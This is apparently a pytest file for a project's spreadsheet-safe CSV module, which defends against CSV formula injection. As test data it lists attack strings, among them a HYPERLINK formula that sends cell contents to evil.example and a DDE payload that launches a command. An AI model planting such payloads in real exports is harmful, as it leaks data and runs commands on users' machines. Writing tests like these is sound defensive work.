"""Spreadsheet-safe CSV (issue kind 5): every CSV cell that a spreadsheet could evaluate is
neutralised (OWASP "CSV Injection"), and MWI's own reader gives back what was written."""

import csv
import io
import pathlib
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mwi.lib import csvsafe

from ..factories import BlockFactory, MappingFactory, ProjectFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"docs")'
FORMULAS = [
    HYPERLINK,
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "|calc",
    "%0A=1",
    "'=1+1",  # already quoted by someone: it must read back with its quote
    "'",
]
LEFT_ALONE = ["Milvus", "Kubeflow Pipelines", "-12", "+3.5", "42", "", "a=b", "x@y.org", "O'Neil"]


def _written(values):
    out = io.StringIO()
    csvsafe.writer(out).writerow(values)
    return out.getvalue()


def _raw_cells(text):
    """The cells as a spreadsheet program sees them: parsed, nothing taken off."""
    return next(csv.reader(io.StringIO(text)))


def _could_be_evaluated(cell):
    first = cell.lstrip(" \u00a0\u3000")[:1]
    return first in csvsafe.FORMULA_STARTS and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell)


@pytest.mark.parametrize("value", FORMULAS)
def test_spreadsheet_safe_csv_neutralises_formula_cells(value):
    (cell,) = _raw_cells(_written([value]))
    assert cell == "'" + value
    assert not _could_be_evaluated(cell)


@pytest.mark.parametrize("value", LEFT_ALONE)
def test_spreadsheet_safe_csv_leaves_plain_text_and_numbers_alone(value):
    assert _raw_cells(_written([value])) == [value]


def test_spreadsheet_safe_csv_quotes_every_cell_so_no_separator_starts_a_new_one():
    # A spreadsheet that splits on ";" still sees one cell when every cell is quoted.
    assert _written(["a;=1+1", "b"]) == '"a;=1+1","b"\r\n'


@pytest.mark.parametrize("value", FORMULAS + LEFT_ALONE)
def test_spreadsheet_safe_csv_reads_back_what_it_wrote(value):
    out = io.StringIO()
    writer = csvsafe.DictWriter(out, fieldnames=["name", "note"])
    writer.writeheader()
    writer.writerow({"name": value, "note": value})
    rows = list(csvsafe.DictReader(io.StringIO(out.getvalue())))
    assert rows == [{"name": value, "note": value}]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=6))
def test_spreadsheet_safe_csv_round_trips_any_text_and_never_leaves_a_formula(values):
    text = _written(values)
    assert not any(_could_be_evaluated(cell) for cell in _raw_cells(text))
    assert list(csvsafe.reader(io.StringIO(text))) == [values]


@pytest.fixture
def hostile_map(committee):
    block = BlockFactory(name="@Serving")
    project = ProjectFactory(name=HYPERLINK, slug="evil")
    MappingFactory(project=project, block=block, source_text="-cmd|' /C calc'!A0")
    MappingFactory(project=ProjectFactory(name="Milvus", slug="milvus"), block=block)


def test_spreadsheet_safe_csv_the_stack_map_download(hostile_map, anonymous_client):
    response = anonymous_client.get("/stack/map.csv")
    assert response.status_code == 200
    text = response.content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells and not any(_could_be_evaluated(cell) for cell in cells)
    assert "'" + HYPERLINK in cells and "'@Serving" in cells
    rows = list(csvsafe.DictReader(io.StringIO(text)))
    assert {row["project"] for row in rows} == {HYPERLINK, "Milvus"}
    assert {row["block"] for row in rows} == {"@Serving"}
    assert "-cmd|' /C calc'!A0" in {row["source"] for row in rows}


def test_spreadsheet_safe_csv_is_the_only_way_mwi_reads_or_writes_csv():
    # One place for the rule: a new download, command or importer that used the csv module
    # directly would bypass it.
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for package in ("mwi", "participants", "meetings", "stackmap", "insights"):
        for path in (root / package).rglob("*.py"):
            if path.name == "csvsafe.py":
                continue
            if re.search(r"^\s*(import csv\b|from csv import)", path.read_text(), re.MULTILINE):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
